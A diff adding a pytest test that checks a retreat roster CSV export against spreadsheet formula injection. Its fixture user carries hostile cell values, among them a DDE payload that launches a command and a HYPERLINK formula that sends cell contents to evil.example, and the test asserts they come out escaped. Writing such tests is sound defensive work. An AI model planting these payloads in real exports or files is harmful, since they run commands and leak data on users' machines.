@@ -330,6 +330,35 @@ def test_roster_and_csv_show_statuses_and_the_decision_only(
     assert "psychosis" not in exported.text.lower() and "low" not in rows[0]
 
 
+def test_roster_csv_neutralises_every_cell_a_spreadsheet_would_run(
+    app, login, session, make_user, catalog, retreat_session
+):
+    evil = make_user(
+        Role.CLINICIAN,
+        name="=cmd|' /C calc'!A0",
+        credentials="+LCSW",
+        email='=hyperlink("http://evil.example/"&a2,"x")@evil.example',
+        licence_type="@SUM(1)",
+    )
+    complete(session, evil.id, "M1")
+    response = _client(app, login, evil).post(
+        f"/retreats/sessions/{retreat_session.id}/apply", data=screening_form()
+    )
+    assert response.status_code in (200, 302)
+    instructor = _client(app, login, make_user(Role.INSTRUCTOR))
+    exported = instructor.get(f"/retreats/sessions/{retreat_session.id}/roster.csv")
+    rows = list(csv.reader(io.StringIO(exported.text)))
+    assert rows[1][:4] == [
+        "'=cmd|' /C calc'!A0",
+        "'+LCSW",
+        "'" + evil.email,
+        "'@SUM(1) " + evil.licence_number + " CA",
+    ]
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
+    )
+
+
 def test_retreats_page_runs_a_constant_number_of_queries(
     app, login, session, make_user, catalog, engine
 ):
